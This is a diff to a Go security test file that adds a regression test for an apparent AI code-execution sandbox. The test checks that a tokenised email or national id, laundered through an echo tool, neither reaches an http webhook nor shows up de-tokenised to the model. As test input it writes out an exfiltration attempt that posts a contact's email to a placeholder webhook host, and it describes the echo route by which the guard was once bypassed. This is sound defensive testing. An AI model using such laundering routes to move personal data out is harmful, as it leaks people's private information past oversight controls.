@@ -3,6 +3,7 @@ package security
 import (
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 )
@@ -97,6 +98,57 @@ func TestEveryChannelIsFiltered(t *testing.T) {
 		if strings.Contains(strings.ToLower(rec.raw), "anna.lindqvist") || strings.Contains(rec.raw, "anna.lindqvist%40") {
 			t.Errorf("the value reached the model:\n%s\n%.500s", code, rec.raw)
 		}
+	}
+	alice.normal()
+}
+
+// TestTokenEchoKeepsItsSources (issue 19, third round, H6): a value the
+// model holds as a token, resolved by a tool that echoes its arguments
+// in a later run of the same session, came back as a plain value without
+// its sources — and then reached http despite crm.* → http.* — and the
+// model saw it de-tokenised.
+func TestTokenEchoKeepsItsSources(t *testing.T) {
+	t.Parallel()
+	s := ruled(t)
+	alice := s.open(t, aliceToken)
+	first := alice.run(`const c = await crm.get_contact({id: "c_8812"}); return {name: c.name, email: c.email}`)
+	tok := regexp.MustCompile(`⟦email:[0-9a-f]+⟧`).FindString(first.raw)
+	if tok == "" {
+		t.Fatalf("no email token: %.300s", first.raw)
+	}
+	echo := `const v = (await util.echo({text: "` + tok + `"})).text;`
+	if rec := alice.run(echo + ` await http.post_webhook({url: "https://hooks.example/x", payload: {v}}); "SENT"`); rec.Status == "ok" {
+		t.Errorf("the token's value reached http through an echo: %.300s", rec.raw)
+	}
+	for _, code := range []string{
+		echo + ` return v`,
+		echo + ` return {note: v}`,
+		echo + ` return "mail " + v.toUpperCase()`,
+	} {
+		rec := alice.run(code)
+		if rec.Status != "ok" || strings.Contains(strings.ToLower(rec.raw), "@") {
+			t.Errorf("%s: the model sees the value: %.300s", code, rec.raw)
+		}
+	}
+	// A value only its field's name marks (a national id), echoed, on a
+	// server with no data-flow rule.
+	plain := start(t)
+	bob := plain.open(t, bobToken)
+	id := regexp.MustCompile(`⟦national_id:[0-9a-f]+⟧`).FindString(bob.run(`return {national_id: "ZX-99812-Q"}`).raw)
+	if id == "" {
+		t.Fatal("no national_id token")
+	}
+	for _, code := range []string{
+		`return (await util.echo({text: "` + id + `"})).text`,
+		`return {note: (await util.echo({text: "` + id + `"})).text}`,
+	} {
+		if rec := bob.run(code); rec.Status != "ok" || strings.Contains(rec.raw, "ZX-99812-Q") {
+			t.Errorf("%s: the model sees the value: %.300s", code, rec.raw)
+		}
+	}
+	// The value itself still goes where its sources may go.
+	if rec := alice.run(echo + ` await crm.add_note({record_type: "contact", record_id: "c_8812", body: v}); return 1`); rec.Status != "ok" {
+		t.Errorf("the echoed value cannot go back to crm: %.300s", rec.raw)
 	}
 	alice.normal()
 }
